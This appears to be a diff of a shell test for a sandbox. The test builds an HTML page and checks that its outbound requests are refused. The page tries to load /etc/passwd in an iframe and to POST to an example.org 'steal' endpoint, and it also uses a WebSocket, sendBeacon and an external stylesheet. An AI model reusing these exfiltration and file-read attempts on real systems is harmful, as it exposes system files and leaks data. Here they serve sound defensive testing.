@@ -161,7 +161,7 @@ check 'addresses that are not granted are not opened (pattern 130)' addresses
 cat >"$w/out.html" <<'END'
 <title>Ways out</title><iframe src="file:///etc/passwd"></iframe><img src="http://example.org/x.png"><p id=o>none</p>
 <script>fetch('http://example.org/steal', {method: 'POST', body: 'x'}).catch(() => { o.textContent += 'fetch refused'; });
-new WebSocket('ws://127.0.0.1:9/').onerror = () => { o.textContent += ' socket refused'; };
+try { new WebSocket('ws://127.0.0.1:9/'); } catch (e) { o.textContent += ' socket refused'; }
 navigator.sendBeacon('http://example.org/beacon', 'x'); fetch('/a.html', {method: 'POST'}).catch(() => 0);</script>
 <link rel=stylesheet href="http://workspace.invalid/link.html">
 END
